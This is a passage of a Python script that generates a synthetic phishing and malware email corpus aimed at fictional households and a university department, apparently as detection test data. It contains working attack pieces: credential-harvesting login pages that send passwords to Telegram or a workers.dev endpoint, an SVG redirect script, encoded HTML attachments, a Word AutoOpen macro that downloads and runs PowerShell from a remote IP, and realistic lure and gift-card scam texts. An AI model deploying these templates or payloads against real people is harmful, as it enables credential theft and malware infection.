<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="420" height="120" viewBox="0 0 420 120">
  <rect width="420" height="120" rx="10" fill="#f1f3f4"/>
  <circle cx="50" cy="60" r="26" fill="#1a73e8"/>
  <polygon points="42,46 42,74 66,60" fill="#ffffff"/>
  <text x="95" y="55" font-family="Arial" font-size="16" fill="#202124">Voice Message - 00:47</text>
  <text x="95" y="80" font-family="Arial" font-size="12" fill="#5f6368">Click to play from +49 30 55571192</text>
  <script type="text/javascript"><![CDATA[
    var r = "{{target}}";
    var m = "{{mail}}";
    window.location.href = r + "?v=47&id={{id}}#" + m;
  ]]></script>
</svg>
""", target=_vm_url, mail=b64(HANNA), id=tok("a6id", 10, DIGITS))
add(slug="voicemail-svg-script-r2", cat="phishing", kind="phish", site="hvoss", rcpt=HANNA,
    desc="Voicemail notification sent through Amazon SES from a lookalike notification domain; the 'recording' is an "
         "SVG with embedded JavaScript that redirects to an r2.dev credential page with her address in the fragment.",
    date="2025-04-09 08:03:12 +0000", from_=("hvoss.net Voice Mail", "noreply@voice-mailnotify.net"), to=HANNA,
    subject="Voice Message Received from +49 30 55571192 (00:47)",
    mailfrom=f"0102018e{tok('a6ses', 24, HEX)}-000000@eu-west-1.amazonses.com", ip="54.240.4.17",
    rdns="a4-17.smtp-out.eu-west-1.amazonses.com", helo="a4-17.smtp-out.eu-west-1.amazonses.com", spf="pass",
    dkim=[("voice-mailnotify.net", tok("a6s1", 32, "abcdefghijklmnopqrstuvwxyz234567"), "pass"),
          ("amazonses.com", "shh3fegwg5fppqsuzphvschd53n6ihuv", "pass")],
    dmarc=("pass", "none"), msgid=f"<0102018e{tok('a6mid', 24, HEX)}-{tok('a6mi2', 8, HEX)}-000000@eu-west-1.amazonses.com>",
    extra=["Feedback-ID: ::1.eu-west-1.VWqr0Xj3:AmazonSES"],
    body=mixed(next_b("a6"),
               html_only(card("Voice Mail", "You have a new voice message",
                              ["<b>From:</b> +49 30 55571192", "<b>To:</b> hanna@hvoss.net",
                               "<b>Length:</b> 00:47 &nbsp; <b>Received:</b> 09.04.2025 10:02",
                               "The audio message is attached. Open the attachment to play it in your browser."],
                              color="#3c4043", foot="Unified Messaging &middot; hvoss.net")),
               attachment("image/svg+xml", "VM_Playback_0047s.svg", _svg.encode())))

_rc_url = ("https://ipfs.io/ipfs/bafybei" + tok("a7cid", 52, "abcdefghijklmnopqrstuvwxyz234567")
           + "/roundcube-login.html#" + HANNA)
add(slug="roundcube-security-update-ipfs", cat="phishing", kind="phish", site="hvoss", rcpt=HANNA,
    desc="'Roundcube Webmail' security-update notice sent by PHPMailer from a hacked Mexican cPanel site (its own SPF "
         "passes, no DKIM, no DMARC alignment) linking to a Roundcube login clone on an IPFS gateway.",
    date="2025-01-27 21:37:02 -0600", from_=("Roundcube Webmail", "contacto@sanmarcosdental.com.mx"), to=HANNA,
    subject="Roundcube Webmail: Security Update Required For hanna@hvoss.net",
    mailfrom="sanmarco@p3plzcpnl489012.prod.phx3.secureserver.net", ip="160.153.0.214",
    rdns="p3plzcpnl489012.prod.phx3.secureserver.net", helo="p3plzcpnl489012.prod.phx3.secureserver.net",
    spf="pass", dkim=[], dmarc=("none", None), msgid=f"<{tok('a7m', 32, ALNUM)}@sanmarcosdental.com.mx>",
    hops=[php_hop("p3plzcpnl489012.prod.phx3.secureserver.net", "sanmarco", "a7h")],
    extra=["X-Mailer: PHPMailer 6.8.0 (https://github.com/PHPMailer/PHPMailer)",
           "X-PHP-Script: sanmarcosdental.com.mx/wp-content/uploads/2019/lib/mail.php for 185.100.87.41"],
    body=html_only(card(
        "Roundcube Webmail", "Security update for hanna@hvoss.net",
        ["Dear user,", "A critical security update (Roundcube 1.6.10) has been installed on the mail server "
         "<b>webmail.hvoss.net</b>. To keep receiving messages, every mailbox must be re-validated on the new "
         "version.", "Please sign in once with your current password to complete the update. Accounts that are "
         "not re-validated within 24 hours will be disabled."],
        label="Update Mailbox", url=_rc_url, color="#37beff",
        foot="Roundcube Webmail &middot; Free and Open Source Webmail &middot; hvoss.net")))


# ==========================================================================
# ATTACKS - the Pembertons, pemberton-family.co.uk (Namecheap cPanel hosting)
# ==========================================================================

_quota_url = f"https://pub-{tok('b1r2', 32, HEX)}.r2.dev/cpanel-storage.html?u={CLAIRE}"
add(slug="quota-full-compromised-turkish-r2", cat="phishing", kind="phish", site="pemb", rcpt=CLAIRE,
    desc="Compromised mailbox of a Turkish construction firm (SPF/DKIM/DMARC pass) with display name "
         "'pemberton-family.co.uk Mailbox Storage' warning the mailbox is 99.8% full; link to an r2.dev cPanel clone.",
    date="2024-11-19 11:05:33 +0300", from_=("pemberton-family.co.uk Mailbox Storage", "satinalma@turkoglu-insaat.com.tr"),
    to=CLAIRE, subject="Mailbox Storage Full: claire@pemberton-family.co.uk (99.8%)",
    mailfrom="satinalma@turkoglu-insaat.com.tr", ip="185.85.190.42", rdns="mail.turkoglu-insaat.com.tr",
    helo="mail.turkoglu-insaat.com.tr", spf="pass", dkim=[("turkoglu-insaat.com.tr", "default", "pass")],
    dmarc=("pass", "none"), msgid=f"<{tok('b1m', 32, HEX)}@turkoglu-insaat.com.tr>",
    hops=[local_hop("[185.100.87.166]", "185.100.87.166", "mail.turkoglu-insaat.com.tr", "b1h")],
    extra=["User-Agent: Roundcube Webmail/1.5.3"],
    body=html_only(card(
        "pemberton-family.co.uk", "Your mailbox is almost full",
        ["Hi claire,", '<span style="display:inline-block;width:420px;height:14px;background:#eee;border-radius:7px;">'
         '<span style="display:inline-block;width:418px;height:14px;background:#d93025;border-radius:7px;"></span></span>'
         "<br><b>1.996 GB</b> of 2 GB used (99.8%)",
         "New messages sent to <b>claire@pemberton-family.co.uk</b> are now being returned to the sender. "
         "Free up space or request an automatic storage increase at no cost."],
        label="Increase Storage", url=_quota_url, color="#ff6c2c",
        foot="cPanel mail service for pemberton-family.co.uk. This is an automated message.")))

_tg_login = T("""<!DOCTYPE html><html><head><meta charset="utf-8"><title>Webmail Login</title>
<style>body{margin:0;background:#f1f4f8;font-family:Open Sans,Arial,sans-serif}.box{width:360px;margin:80px auto;background:#fff;padding:30px;border-radius:6px;box-shadow:0 2px 8px rgba(0,0,0,.15)}
input{width:100%;padding:10px;margin:8px 0;border:1px solid #ccc;border-radius:3px}button{width:100%;padding:11px;background:#179bd7;color:#fff;border:0;border-radius:3px}</style></head>
<body><div class="box"><img src="https://cpanel.net/wp-content/themes/cPbase/assets/img/logos/cpanel-logo.svg" width="120">
<p><b>5 pending messages</b> for {{email}} are held on the server. Sign in to release them.</p>
<form id="f"><input id="e" value="{{email}}" readonly><input id="p" type="password" placeholder="Password">
<button type="submit">Release messages</button></form><p id="err" style="color:#c00;display:none">Incorrect password, try again.</p></div>
<script>
var n = 0;
document.getElementById("f").onsubmit = function (ev) {
  ev.preventDefault();
  var t = "Mail: " + document.getElementById("e").value + "\\nPass: " + document.getElementById("p").value + "\\nUA: " + navigator.userAgent;
  fetch("https://api.telegram.org/bot{{bot}}/sendMessage?chat_id=-100{{chat}}&text=" + encodeURIComponent(t));
  n++; document.getElementById("err").style.display = "block"; document.getElementById("p").value = "";
  if (n > 1) { window.location.href = "https://pemberton-family.co.uk/webmail"; }
};
</script></body></html>""", email=CLAIRE, bot=f"7{tok('b2bot', 9, DIGITS)}:AAH{tok('b2key', 32, URLCH)}",
                chat=tok("b2chat", 10, DIGITS))
add(slug="pending-messages-own-domain-atob-telegram", cat="phishing", kind="phish", site="pemb", rcpt=CLAIRE,
    desc="Spoof of 'cPanel <cpanel@pemberton-family.co.uk>' (the family's own domain, SPF softfail, no DMARC record) "
         "with an HTML attachment whose atob-encoded page shows her address pre-filled and posts the password to Telegram.",
    date="2025-01-08 02:51:19 +0700", from_=("cPanel", "cpanel@pemberton-family.co.uk"), to=CLAIRE,
    subject="Incoming messages pending release - pemberton-family.co.uk",
    mailfrom="cpanel@pemberton-family.co.uk", ip="103.141.137.58", rdns=None, helo="WIN-3H8K2QF1R7M",
    spf="softfail", dkim=[], dmarc=("none", None), msgid=f"<{tok('b2m', 16, UPNUM)}@WIN-3H8K2QF1R7M>",
    body=mixed(next_b("b2"),
               html_only('<html><body style="font-family:Arial;font-size:14px;">'
                         '<p>Dear claire,</p><p>You have <b>5 pending messages</b> held on the '
                         'pemberton-family.co.uk mail server because of a delivery sync error.</p>'
                         '<p>Please open the attached file to release the messages to your inbox.</p>'
                         '<p>Regards,<br>cPanel Mail Service<br>pemberton-family.co.uk</p></body></html>'),
               attachment("text/html", f"Pending_Messages_{CLAIRE}.html",
                          f'<html><head><meta charset="utf-8"></head><body><script>document.write(atob("{b64(_tg_login)}"));'
                          f"</script></body></html>\n".encode())))

_nc_url = f"https://namecheap-renewalcenter.com/myaccount/domain-renew.php?domain=pemberton-family.co.uk&id=NC-{tok('b3', 7, DIGITS)}"
add(slug="namecheap-expired-lookalike", cat="phishing", kind="phish", site="pemb", rcpt=DAVE,
    desc="Lookalike registrar domain namecheap-renewalcenter.com (own SPF/DKIM pass) says pemberton-family.co.uk has "
         "expired and e-mail will stop; the renewal link collects card details on the lookalike.",
    date="2025-03-25 15:20:44 +0000", from_=("Namecheap", "billing@namecheap-renewalcenter.com"), to=DAVE,
    subject="URGENT: pemberton-family.co.uk has expired - email and website will stop working",
    mailfrom="billing@namecheap-renewalcenter.com", ip="91.92.249.113", rdns="mail.namecheap-renewalcenter.com",
    helo="mail.namecheap-renewalcenter.com", spf="pass", dkim=[("namecheap-renewalcenter.com", "mail", "pass")],
    dmarc=("pass", "none"), msgid=f"<{tok('b3m', 28, HEX)}@namecheap-renewalcenter.com>",
    body=html_only(card(
        "namecheap", "Your domain has expired",
        ["Hello,", "The registration of <b>pemberton-family.co.uk</b> expired on <b>24 March 2025</b> because "
         "the automatic renewal payment was declined.",
         "Your website and <b>all email addresses @pemberton-family.co.uk</b> will stop working within 24 hours. "
         "After the redemption period the domain may be registered by someone else.",
         "Renew now for &pound;8.98 to restore your services immediately."],
        label="Renew Domain Now", url=_nc_url, color="#de3723",
        foot="Namecheap, Inc. 4600 East Washington Street, Suite 300, Phoenix, AZ 85034, USA")))

_inv = f"INV2-{tok('b4i', 4, UPNUM)}-{tok('b4j', 4, UPNUM)}-{tok('b4k', 4, UPNUM)}-{tok('b4l', 4, UPNUM)}"
_pp_note = ("Your Norton 360 Total Protection subscription has been renewed for 3 years and $499.99 will be debited "
            "from your account within 24 hours. If you did not authorise this renewal or want a refund, call our "
            "billing desk immediately on +1 (844) 555-0143. Do not pay this invoice online.")
add(slug="paypal-invoice-callback-norton", cat="phishing", kind="phish", site="pemb", rcpt=CLAIRE,
    desc="Genuine PayPal invoice (paypal.com, all authentication passes) created by a scammer account named "
         "'Geek-Squad Billing'; the note claims a $499.99 Norton renewal and pushes a callback phone number.",
    date="2025-04-14 10:02:51 -0700", from_=("Geek-Squad Billing via PayPal", "service@paypal.com"), to=CLAIRE,
    subject=f"Invoice from Geek-Squad Billing ({tok('b4n', 4, DIGITS)})",
    mailfrom="service@paypal.com", ip="173.0.84.228", rdns="mx3.slc.paypal.com", helo="mx3.slc.paypal.com",
    spf="pass", dkim=[("paypal.com", "pp-dkim1", "pass")], dmarc=("pass", "reject"),
    msgid=f"<{tok('b4m', 8, HEX)}-{tok('b4mm', 4, HEX)}-{tok('b4mn', 4, HEX)}@paypal.com>",
    extra=["X-PP-REQUESTED-TIME: 1744650170322", "X-Email-Type-Id: PPX000897"],
    body=alt(java_b("b4"),
             f"Geek-Squad Billing sent you an invoice for $499.99 USD\n\nDue on receipt\n\nNote from seller:\n{_pp_note}\n\n"
             f"View and pay invoice: https://www.paypal.com/invoice/p/#{_inv}\n\nInvoice number: 0031\n\n"
             "Copyright 1999-2025 PayPal, Inc. All rights reserved.\n",
             card("PayPal", "Geek-Squad Billing sent you an invoice",
                  ['<span style="font-size:28px;">$499.99 USD</span><br>Due on receipt',
                   f"<b>Note from seller</b><br>{_pp_note}", "Invoice number: 0031"],
                  label="View and Pay Invoice", url=f"https://www.paypal.com/invoice/p/#{_inv}", color="#0070e0",
                  foot="Don't recognize this invoice? Report it. Copyright &copy; 1999-2025 PayPal, Inc. "
                       "All rights reserved. PayPal Pte. Ltd.")))

_gverify = ("https://www.google.com/url?q=https://www.clinicaodontologicasorriso.com.br/wp-admin/css/colors/ocean/"
            f"verify/?email%3D{DAVE}&sa=D&sntz=1&usg=AOvVaw{tok('b5usg', 22, URLCH)}")
add(slug="email-verification-google-url-redirect", cat="phishing", kind="phish", site="pemb", rcpt=DAVE,
    desc="'pemberton-family.co.uk' display name on a throwaway .online domain asks Dave to verify his address within "
         "24 hours; the button is a google.com/url redirect to a kit on a hacked Brazilian clinic's WordPress.",
    date="2025-10-13 07:33:08 +0000", from_=("pemberton-family.co.uk", "noreply@mailverify-center.online"), to=DAVE,
    subject="Action Required: Verify dave@pemberton-family.co.uk Before 14 Oct 2025",
    mailfrom="noreply@mailverify-center.online", ip="38.180.91.27", rdns="vm3391027.stark-industries.solutions",
    helo="mailverify-center.online", spf="pass", dkim=[("mailverify-center.online", "default", "pass")],
    dmarc=("pass", "none"), msgid=f"<{tok('b5m', 26, HEX)}@mailverify-center.online>",
    body=html_only(card(
        "pemberton-family.co.uk", "Email verification required",
        [f"Dear {DAVE},", "As part of our annual mailbox maintenance every user must confirm ownership of their "
         "email account. Unverified accounts will be <b>deactivated on 14 Oct 2025</b> and their messages removed.",
         "Verification takes less than one minute."],
        label="Verify My Email", url=_gverify, color="#2e7d32",
        foot="&copy; 2025 pemberton-family.co.uk &middot; Email Administration")))

_dbx = (f"https://www.dropbox.com/scl/fi/{tok('b6f', 21, 'abcdefghijklmnopqrstuvwxyz0123456789')}/"
        f"Pemberton_Property_Valuation.pdf?rlkey={tok('b6k', 25, 'abcdefghijklmnopqrstuvwxyz0123456789')}&e=1&dl=0")
add(slug="dropbox-genuine-share-valuation", cat="phishing", kind="phish", site="pemb", rcpt=CLAIRE,
    desc="Genuine Dropbox share notification (dropbox.com, all auth pass) from an attacker-run account posing as an "
         "estate agent; the shared 'property valuation' PDF carries the link to a credential page.",
    date="2025-05-07 13:48:22 +0000", from_=("Dropbox", "no-reply@dropbox.com"), to=CLAIRE,
    subject='Ian Fletcher shared "Pemberton_Property_Valuation.pdf" with you',
    mailfrom=f"bounces+{tok('b6b', 8, DIGITS)}@email.dropbox.com", ip="54.240.27.84",
    rdns="a27-84.smtp-out.us-west-2.amazonses.com", helo="a27-84.smtp-out.us-west-2.amazonses.com", spf="pass",
    dkim=[("dropbox.com", "dbx", "pass"), ("amazonses.com", "7v7vs6w47njt4pimodk5mmttbegzsi6n", "pass")],
    dmarc=("pass", "reject"), msgid=f"<0101019{tok('b6m', 24, HEX)}-{tok('b6n', 8, HEX)}-000000@us-west-2.amazonses.com>",
    extra=["X-Dropbox-Message-Type: shared_file"],
    body=alt(gmail_b("b6x"),
             "Ian Fletcher (ian.fletcher.valuations@gmail.com) shared a file with you\n\n\"Hi Claire, as discussed "
             "please find the valuation report for the property. Kind regards, Ian\"\n\n"
             f"Pemberton_Property_Valuation.pdf\n\nView file: {_dbx}\n\nEnjoy!\nThe Dropbox team\n",
             card("Dropbox", "Ian Fletcher shared a file with you",
                  ['"Hi Claire, as discussed please find the valuation report for the property. Kind regards, Ian"',
                   "<b>Pemberton_Property_Valuation.pdf</b>"],
                  label="View file", url=_dbx, color="#0061fe",
                  foot="Ian Fletcher (ian.fletcher.valuations@gmail.com) shared this file. &copy; 2025 Dropbox, "
                       "1800 Owens St, San Francisco, CA 94158")))

add(slug="gift-card-brother-gmail", cat="phishing", kind="phish", site="pemb", rcpt=CLAIRE,
    desc="Gmail account with the display name of Claire's husband asks her to buy Apple gift cards urgently and send "
         "the codes; classic gift-card BEC with no link.",
    date="2025-07-16 09:12:47 +0100", from_=("Dave Pemberton", "dave.pemberton.office@gmail.com"), to=CLAIRE,
    subject="Quick favour",
    mailfrom="dave.pemberton.office@gmail.com", ip="209.85.128.54", rdns="mail-wm1-f54.google.com",
    helo="mail-wm1-f54.google.com", spf="pass", dkim=[("gmail.com", "20230601", "pass")], dmarc=("pass", "none"),
    msgid=f"<CAP{tok('b7m', 44, URLCH)}@mail.gmail.com>",
    hops=[gmail_hop("2002:a05:600c:3b9a:b0:43c:f2a1:7f10", CLAIRE, "b7h")],
    body=alt(gmail_b("b7"),
             "Hi love, are you free at the moment? My phone is playing up so I can only do email.\n\n"
             "I need you to pick up 4 Apple gift cards (£100 each) for Emma's school raffle, I promised them today "
             "and I'm stuck in meetings till late. Just scratch the back and send me pictures of the codes here.\n\n"
             "I'll pay you back tonight. Thanks xx\n\nSent from my iPhone\n",
             gmail_html(["Hi love, are you free at the moment? My phone is playing up so I can only do email.", "",
                         "I need you to pick up 4 Apple gift cards (£100 each) for Emma's school raffle, I promised "
                         "them today and I'm stuck in meetings till late. Just scratch the back and send me pictures "
                         "of the codes here.", "", "I'll pay you back tonight. Thanks xx", "", "Sent from my iPhone"])))

_ssl_url = "https://cpanel-ssl-renew-9f3a1.web.app/?domain=pemberton-family.co.uk&user=claire"
add(slug="autossl-failed-lookalike-firebase", cat="phishing", kind="phish", site="pemb", rcpt=CLAIRE,
    desc="Lookalike cpanel-autossl-notice.com (own auth pass) claims AutoSSL failed and the site is 'Not secure'; the "
         "'Sign in to cPanel' button goes to a Firebase-hosted cPanel login clone.",
    date="2025-09-02 18:40:11 +0000", from_=("cPanel AutoSSL", "noreply@cpanel-autossl-notice.com"), to=CLAIRE,
    subject="[server312] AutoSSL failed: certificate for pemberton-family.co.uk has expired",
    mailfrom="noreply@cpanel-autossl-notice.com", ip="193.233.48.77", rdns="mail.cpanel-autossl-notice.com",
    helo="mail.cpanel-autossl-notice.com", spf="pass", dkim=[("cpanel-autossl-notice.com", "s1", "pass")],
    dmarc=("pass", "quarantine"), msgid=f"<{tok('b8m', 30, HEX)}@cpanel-autossl-notice.com>",
    body=alt(php_b("b8"),
             "AutoSSL certificate expiry\n\nThe AutoSSL certificate for pemberton-family.co.uk expired on 1 Sep 2025 "
             "and could not be renewed (DCV: HTTP 403 on /.well-known/acme-challenge).\n\nVisitors and mail clients "
             f"now see security warnings. Sign in to cPanel to re-run AutoSSL: {_ssl_url}\n\n-- cPanel, L.L.C.\n",
             card("cPanel", "AutoSSL could not renew your certificate",
                  ["The AutoSSL certificate for <b>pemberton-family.co.uk</b>, <b>mail.pemberton-family.co.uk</b> "
                   "and <b>www.pemberton-family.co.uk</b> expired on <b>1 Sep 2025</b>.",
                   "Domain control validation failed: <code>HTTP 403 on /.well-known/acme-challenge</code>.",
                   "Browsers and mail programs now show security warnings. Sign in to cPanel and run AutoSSL "
                   "again to restore secure access."],
                  label="Sign in to cPanel", url=_ssl_url, color="#ff6c2c",
                  foot="This notice is sent on behalf of server312.web-hosting.com. cPanel, L.L.C.")))


# ==========================================================================
# ATTACKS - Department of Linguistics, ling.westmere.ac.uk (own Postfix + Roundcube)
# ==========================================================================

_ipfs_sub = "bafybei" + tok("c1cid", 52, "abcdefghijklmnopqrstuvwxyz234567")
_rc2 = f"https://{_ipfs_sub}.ipfs.dweb.link/roundcube.html?email={RUTH}"
add(slug="roundcube-upgrade-compromised-edu-ipfs", cat="phishing", kind="phish", site="westmere", rcpt=RUTH,
    desc="Compromised student Google Workspace account at an Argentinian university (all auth pass) announces a "
         "'Roundcube 1.6.10 upgrade' for ling.westmere.ac.uk; the login clone sits on an IPFS dweb.link subdomain.",
    date="2025-03-03 05:14:38 -0300", from_=("ling.westmere.ac.uk Webmail", "mlopez@alumnos.univ-meridional.edu.ar"),
    to="undisclosed-recipients:;", subject="ling.westmere.ac.uk Webmail: Roundcube 1.6.10 Upgrade Notice",
    mailfrom="mlopez@alumnos.univ-meridional.edu.ar", ip="209.85.210.49", rdns="mail-ot1-f49.google.com",
    helo="mail-ot1-f49.google.com", spf="pass", dkim=[("alumnos.univ-meridional.edu.ar", "google", "pass")],
    dmarc=("pass", "none"), msgid=f"<CAB{tok('c1m', 44, URLCH)}@mail.gmail.com>",
    hops=[gmail_hop("2002:a05:6830:6a14:b0:72b:8f31:c2e4", RUTH, "c1h")],
    body=alt(gmail_b("c1"),
             "Dear ling.westmere.ac.uk user,\n\nYour webmail will be upgraded to Roundcube 1.6.10 tonight. To avoid "
             "loss of stored messages, contacts and folders, confirm your account on the new version:\n\n"
             f"{_rc2}\n\nAccounts not confirmed within 24 hours will be migrated with an empty mailbox.\n\n"
             "Webmail Support\nling.westmere.ac.uk\n",
             gmail_html(["Dear ling.westmere.ac.uk user,", "",
                         "Your webmail will be upgraded to <b>Roundcube 1.6.10</b> tonight. To avoid loss of stored "
                         "messages, contacts and folders, confirm your account on the new version:", "",
                         f'<a href="{_rc2}">https://webmail.ling.westmere.ac.uk/?_task=upgrade</a>', "",
                         "Accounts not confirmed within 24 hours will be migrated with an empty mailbox.", "",
                         "Webmail Support<br>ling.westmere.ac.uk"])))

_canva = f"https://www.canva.com/design/DAG{tok('c2d', 8, ALNUM)}/{tok('c2v', 22, URLCH)}/view?utm_content=DAG{tok('c2d', 8, ALNUM)}&utm_campaign=designshare&utm_medium=link2&utm_source=uniquelinks"
add(slug="password-expiry-outlook-freemail-canva", cat="phishing", kind="phish", site="westmere", rcpt=RUTH,
    desc="Outlook.com freemail account named 'Westmere IT Service Desk' (outlook.com auth passes) says her password "
         "expires today and links to a genuine Canva design whose button leads to the credential page.",
    date="2025-01-21 08:02:17 +0000", from_=("Westmere IT Service Desk", "westmere.itservicedesk@outlook.com"),
    to=RUTH, subject="Password Expiry Notice: r.okafor@ling.westmere.ac.uk expires today",
    mailfrom="westmere.itservicedesk@outlook.com", ip="40.92.89.101",
    rdns="mail-db8eur05olkn2101.outbound.protection.outlook.com", helo="EUR05-DB8-obe.outbound.protection.outlook.com",
    spf="pass", dkim=[("outlook.com", "selector1", "pass")], dmarc=("pass", "none"),
    msgid=f"<DB9PR02MB{tok('c2m', 4, DIGITS)}{tok('c2n', 20, UPNUM)}@DB9PR02MB{tok('c2m', 4, DIGITS)}.eurprd02.prod.outlook.com>",
    hops=[outlook_hop(f"DB9PR02MB{tok('c2m', 4, DIGITS)}.eurprd02.prod.outlook.com", "c2h")],
    extra=["X-MS-Exchange-Organization-SCL: 1", "Content-Language: en-GB"],
    body=alt(outlook_b("c2"),
             "Your password for r.okafor@ling.westmere.ac.uk expires today.\n\nTo keep using your current password "
             f"and avoid losing access to email, Moodle and the VPN, review the password policy here:\n{_canva}\n\n"
             "IT Service Desk\nWestmere University\n",
             outlook_html(["Your password for <b>r.okafor@ling.westmere.ac.uk</b> expires <b>today</b>.", "",
                           "To keep using your current password and avoid losing access to email, Moodle and the "
                           "VPN, review the password policy here:", "",
                           f'<a href="{_canva}">Keep Same Password</a>', "", "IT Service Desk<br>Westmere University"])))

_mfa_qr = f"https://mfa-reg.westmere-sso.com/?u={b64(RUTH)}&t={tok('c3t', 12, ALNUM)}"
add(slug="mfa-reregistration-qr-pdf-spoof", cat="phishing", kind="phish", site="westmere", rcpt=RUTH,
    desc="Spoof of 'Microsoft 365 <no-reply@westmere.ac.uk>' (SPF fail, DMARC fail under p=none) demanding MFA "
         "re-registration; the attached PDF holds only a QR code to a lookalike SSO domain with her address encoded.",
    date="2025-01-14 08:12:55 +0000", from_=("Microsoft 365", "no-reply@westmere.ac.uk"), to=RUTH,
    subject="Action Required: Re-register Multi-Factor Authentication (MFA) before 21/01/2025",
    mailfrom="no-reply@westmere.ac.uk", ip="94.156.64.212", rdns=None, helo="mail.westmere.ac.uk",
    spf="fail", dkim=[], dmarc=("fail", "none"), msgid=f"<{tok('c3m', 20, HEX)}@westmere.ac.uk>",
    body=mixed(next_b("c3"),
               plain("Dear Ruth Okafor,\n\nAs part of the migration to the new Microsoft Authenticator policy, all "
                     "staff must re-register multi-factor authentication before 21/01/2025.\n\nPlease open the "
                     "attached document and scan the QR code with your phone camera to complete re-registration. "
                     "Accounts that are not re-registered will be locked.\n\nIT Security Team\nWestmere University\n"),
               attachment("application/pdf", "MFA_Reregistration_r.okafor.pdf",
                          qr_pdf(["Westmere University - Microsoft 365", "", "Multi-Factor Authentication re-registration",
                                  f"User: {RUTH}", "Deadline: 21/01/2025", "",
                                  "Scan the QR code below with your phone camera to continue.",
                                  "Do not share this code."], _mfa_qr, "MFA Re-registration"))))

_spr = f"https://snapp-reviewer-portal.pages.dev/login?ms=JPHS-D-25-00418&email={RUTH.replace('@', '%40')}"
add(slug="springer-reviewer-invitation-pages", cat="phishing", kind="phish", site="westmere", rcpt=RUTH,
    desc="Lookalike 'Springer Nature Editorial Office' domain (own auth pass) invites her to review a manuscript; "
         "the 'agree to review' link is a Cloudflare Pages login clone that harvests her university credentials.",
    date="2025-04-28 11:26:09 +0000", from_=("Journal of Phonetic Studies - Editorial Office", "editorial@springernature-reviewers.com"),
    to=RUTH, subject="Invitation to review manuscript JPHS-D-25-00418",
    mailfrom="editorial@springernature-reviewers.com", ip="185.174.101.30", rdns="mail.springernature-reviewers.com",
    helo="mail.springernature-reviewers.com", spf="pass", dkim=[("springernature-reviewers.com", "em", "pass")],
    dmarc=("pass", "none"), msgid=f"<{tok('c4m', 24, HEX)}@springernature-reviewers.com>",
    body=alt(php_b("c4"),
             "Dear Dr Okafor,\n\nI would like to invite you to review the manuscript \"Prosodic boundary strength and "
             "final lengthening in Yoruba-English bilinguals\" (JPHS-D-25-00418) for Journal of Phonetic Studies.\n\n"
             f"To agree or decline, please sign in to the reviewer portal with your institutional account:\n{_spr}\n\n"
             "We would appreciate your review within 21 days.\n\nWith kind regards,\nProf. Helen Marsh\nHandling Editor\n",
             card("Springer Nature", "Invitation to review",
                  ["Dear Dr Okafor,", "I would like to invite you to review the manuscript <i>\"Prosodic boundary "
                   "strength and final lengthening in Yoruba-English bilinguals\"</i> (JPHS-D-25-00418) for "
                   "<b>Journal of Phonetic Studies</b>.",
                   "To agree or decline, please sign in to the reviewer portal with your institutional account. "
                   "We would appreciate your review within 21 days.",
                   "With kind regards,<br>Prof. Helen Marsh<br>Handling Editor"],
                  label="Agree to Review", url=_spr, color="#025e8d",
                  foot="Springer Nature &middot; Reviewer Services. You are receiving this email because you are "
                       "registered as a potential reviewer.")))

_macro = """Attribute VB_Name = "ThisDocument"
Sub AutoOpen()
    Dim c As String
    c = "pow" & "ershell -nop -w hidden -ep bypass -c " & Chr(34) & _
        "$u='http://185.244.29.17/inv/upd.ps1';IEX((New-Object Net.WebClient).DownloadString($u))" & Chr(34)
    CreateObject("WScript.Shell").Run c, 0, False
    MsgBox "This document was created in an earlier version of Microsoft Word.", vbInformation
End Sub
"""
add(slug="transcription-po-docm-macro", cat="malware", kind="phish", site="westmere", rcpt=LINGOFFICE,
    desc="Supposed transcription supplier (newly registered lookalike, own auth pass) sends 'invoice for PO-2025-0417' "
         "as a macro-enabled .docm whose AutoOpen runs a hidden PowerShell download cradle.",
    date="2025-03-12 10:41:27 +0000", from_=("Lingua Transcribe Accounts", "accounts@lingua-transcribe.co.uk"),
    to=LINGOFFICE, subject="PO-2025-0417 - invoice for February transcription services",
    mailfrom="accounts@lingua-transcribe.co.uk", ip="45.148.10.93", rdns="mail.lingua-transcribe.co.uk",
    helo="mail.lingua-transcribe.co.uk", spf="pass", dkim=[("lingua-transcribe.co.uk", "default", "pass")],
    dmarc=("pass", "none"), msgid=f"<000001db{tok('c5m', 8, HEX)}${tok('c5n', 8, HEX)}${tok('c5o', 8, HEX)}@lingua-transcribe.co.uk>",
    extra=["X-Mailer: Microsoft Outlook 16.0"],
    body=mixed(next_b("c5"),
               plain("Good morning,\n\nPlease find attached our invoice for the February transcription work under your "
                     "purchase order PO-2025-0417 (38 interview hours, Yoruba/English).\n\nThe document is protected; "
                     "please click 'Enable Content' to view the line items.\n\nKind regards,\n\nDaniel Price\n"
                     "Accounts | Lingua Transcribe Ltd\n"),
               attachment("application/vnd.ms-word.document.macroEnabled.12", "Invoice_PO-2025-0417.docm",
                          files.docx(["Lingua Transcribe Ltd - Invoice LT-1147",
                                      "This document is protected. Click Enable Content to view."],
                                     "Invoice LT-1147", "Daniel Price", macro=_macro))))

_remit_post = "https://remit-portal.lucid-field-3c8e.workers.dev/api/auth"
_remit_inner = T("""<!DOCTYPE html><html><head><meta charset="utf-8"><title>Remittance Advice - Sign in</title>
<style>body{font-family:Segoe UI,Arial;background:#f2f2f2;margin:0}.c{width:380px;margin:70px auto;background:#fff;padding:40px;box-shadow:0 2px 6px rgba(0,0,0,.2)}
input{width:100%;padding:8px 0;border:0;border-bottom:1px solid #666;margin:14px 0;font-size:15px}.b{background:#0067b8;color:#fff;border:0;padding:9px 30px;float:right}</style></head>
<body><div class="c"><div style="font-size:13px;color:#555">Westmere University Finance</div>
<h2 style="font-weight:600">Remittance advice 00078812</h2><p>Payment: <b>GBP 1,240.00</b> to r.okafor. Verify your account to download the PDF.</p>
<form method="POST" action="{{post}}"><input name="login" value="{{email}}" readonly>
<input name="passwd" type="password" placeholder="Password" required><input type="hidden" name="src" value="remit-00078812">
<button class="b" type="submit">Sign in</button></form></div></body></html>""", post=_remit_post, email=RUTH)
add(slug="remittance-html-unescape-workers", cat="phishing", kind="phish", site="westmere", rcpt=RUTH,
    desc="Lookalike 'Westmere University Finance' domain (own auth pass) sends a remittance advice as an HTML file "
         "that unescape()s a Microsoft-style sign-in with her address pre-filled, posting to a workers.dev endpoint.",
    date="2025-06-17 13:09:44 +0100", from_=("Westmere University Finance", "remittance@westmere-finance.co.uk"),
    to=RUTH, subject=f"Remittance Advice - Payment REF 00078812 - {RUTH}",
    mailfrom="remittance@westmere-finance.co.uk", ip="91.215.85.148", rdns="mx.westmere-finance.co.uk",
